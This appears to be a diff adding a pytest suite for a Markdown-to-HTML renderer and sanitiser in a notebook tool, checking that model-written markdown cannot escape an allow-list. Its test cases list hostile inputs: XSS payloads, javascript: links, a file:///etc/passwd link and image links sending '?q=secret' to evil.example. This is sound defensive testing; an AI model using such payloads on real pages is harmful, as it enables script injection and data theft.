@@ -1,0 +1,127 @@
+"""Markdown to HTML that is safe in a live, trusted notebook, and good to read."""
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from ofox_magic.render import to_html
+from ofox_magic.render.links import may_link
+from ofox_magic.render.sanitize import ATTRIBUTES, TAGS, sanitize
+
+from .allowed import violations
+
+
+@pytest.mark.parametrize(
+    ("markdown", "html"),
+    [
+        ("# A *b*", "<h1>A <em>b</em></h1>"),
+        ("a\n\nb", "<p>a</p>\n<p>b</p>"),
+        ("- a\n  - b\n", "<ul>\n<li>a\n<ul>\n<li>b</li>\n</ul>\n</li>\n</ul>"),
+        ("3. a\n", '<ol start="3">\n<li>a</li>\n</ol>'),
+        ("```python\nx < 1\n```", "<pre><code>x &lt; 1\n</code></pre>"),
+        ("~~a~~ `b`", "<p><s>a</s> <code>b</code></p>"),
+        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>"),
+        (
+            "|a|b|\n|-|-:|\n|1|2|",
+            "<table>\n<thead>\n<tr>\n<th>a</th>\n"
+            '<th align="right">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n<td align="right">2</td>\n</tr>\n'
+            "</tbody>\n</table>",
+        ),
+        (
+            "[a](https://b.example/c)",
+            '<p><a href="https://b.example/c" target="_blank" rel="noopener noreferrer nofollow">a</a></p>',
+        ),
+    ],
+)
+def test_what_models_write_is_rendered(markdown, html):
+    assert to_html(markdown).strip() == html
+
+
+@pytest.mark.parametrize(
+    "markdown",
+    [
+        "<script>alert(1)</script>",
+        '<img src=x onerror="alert(1)">',
+        "<iframe srcdoc='x'></iframe>",
+        "<form action=/login><input name=p></form>",
+        '<a href="javascript:alert(1)" onclick="x">a</a>',
+        "[a](javascript:alert(1))",
+        "[a](vbscript:x) [b](data:text/html,x) [c](file:///etc/passwd) [d](//evil.example) [e](/api/kernels)",
+        "[a](https://user:pass@evil.example)",
+        "[a](https://evil.example/\\u202e)",
+        "<https://user:pass@evil.example>",
+        "<div id=x class=jp-Dialog style='position:fixed' data-commandlinker-command=x>a</div>",
+        "![a](https://evil.example/?q=secret)",
+        "![a](data:image/svg+xml;base64,AAAA)",
+        "[a]: https://evil.example/?q=secret\n\n![a]",
+        "```<script>\nx\n```",
+        "<details open ontoggle=alert(1)>",
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+    ],
+)
+def test_nothing_a_model_writes_gets_out_of_the_allow_list(markdown):
+    assert violations(to_html(markdown)) == []
+
+
+@given(st.text(max_size=200))
+def test_no_text_at_all_gets_out_of_the_allow_list(markdown):
+    assert violations(to_html(markdown)) == []
+
+
+def test_a_remote_image_is_not_loaded_but_says_where_it_would_come_from():
+    html = to_html("![chart](https://evil.example/p.png?q=secret)")
+    assert "<img" not in html
+    assert "[image from evil.example, not loaded: chart]" in html
+
+
+def test_invisible_and_direction_characters_do_not_reach_the_page():
+    assert to_html("a\u202eb\U000e0041c\x1b[0m") == "<p>abc[0m</p>\n"
+
+
+def test_deep_nesting_ends():
+    assert to_html("> " * 500 + "a")
+
+
+@pytest.mark.parametrize(
+    "address", ["https://a.example", "http://a.example:80/b?c=d#e", "mailto:a@b.example", "https://한국.example/길"]
+)
+def test_common_links_are_kept(address):
+    assert may_link(address)
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "javascript:alert(1)",
+        "JaVaScRiPt:alert(1)",
+        "java\tscript:alert(1)",
+        "//a.example",
+        "/files/x",
+        "a.example",
+        "https:a.example",
+        "https:///a",
+        "https://a\\b.example",
+        "https://u@a.example",
+        "https://a.example:x/",
+        "vscode://x",
+        "mailto:",
+        "",
+        "#x",
+        "https://a.example/\u202e",
+        "https://a.example/ b",
+    ],
+)
+def test_other_addresses_are_not(address):
+    assert not may_link(address)
+
+
+def test_the_sanitiser_stands_alone():
+    """Whatever came before it were broken: the last gate keeps the page safe by itself."""
+    hostile = '<p onclick=x style=y id=z class=jp-Dialog data-a=b>a<script>b</script><img src=//c><a href="javascript:d">e</a>'
+    assert violations(sanitize(hostile)) == []
+    assert "e" in sanitize(hostile)
+
+
+def test_the_allow_list_holds_nothing_that_acts():
+    assert not TAGS & {"script", "style", "form", "input", "button", "iframe", "img", "object", "svg", "math", "link", "meta"}
+    assert {name for names in ATTRIBUTES.values() for name in names} == {"href", "title", "start", "align"}
